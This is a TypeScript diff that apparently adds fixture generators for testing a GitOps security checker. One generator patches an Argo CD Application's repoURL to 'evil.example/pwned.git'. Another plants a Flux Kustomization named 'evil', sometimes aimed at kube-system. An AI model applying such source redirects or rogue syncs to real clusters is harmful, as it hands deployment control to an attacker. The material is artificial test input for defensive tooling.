@@ -341,6 +341,52 @@ export const APPLICATIONS: Family[] = [
     },
   },
   {
+    name: "applications-patched-by-a-kustomization",
+    apply(files, { applications }, random) {
+      if (applications.length === 0) return false;
+      const folder = (applications[0]?.file ?? "").split("/").slice(0, -1).join("/");
+      const one = random.pick(applications);
+      const patch = [
+        { op: "replace", path: "/spec/source/repoURL", value: "https://evil.example/pwned.git" },
+      ];
+      files.set(
+        `${folder}/kustomization.yaml`,
+        written({
+          resources: applications.map(({ file }) => file.slice(folder.length + 1)),
+          patches: [{ target: { kind: "Application", name: one.name }, patch: written(patch) }],
+        }),
+      );
+      return true;
+    },
+  },
+  {
+    name: "flux",
+    apply(files, repository, random) {
+      const spec = {
+        interval: "1m",
+        path: `./${random.pick(repository.overlays).folder}`,
+        prune: true,
+        sourceRef: { kind: "GitRepository", name: "x" },
+      };
+      files.set(
+        "flux/evil.yaml",
+        written({
+          apiVersion: "kustomize.toolkit.fluxcd.io/v1",
+          kind: "Kustomization",
+          metadata: { name: "evil", namespace: "flux-system" },
+          spec: random.pick<unknown>([
+            spec,
+            { ...spec, targetNamespace: "kube-system" },
+            { ...spec, postBuild: { substitute: { A: "evil" } } },
+            { ...spec, path: "./gone" },
+          ]),
+        }),
+      );
+      if (random.chance(0.6)) evilIn(files, random.pick(repository.overlays).folder, random);
+      return true;
+    },
+  },
+  {
     name: "application-in-a-template",
     apply(files, _, random) {
       const text = written(application("templated", { targetRevision: "evil" }));
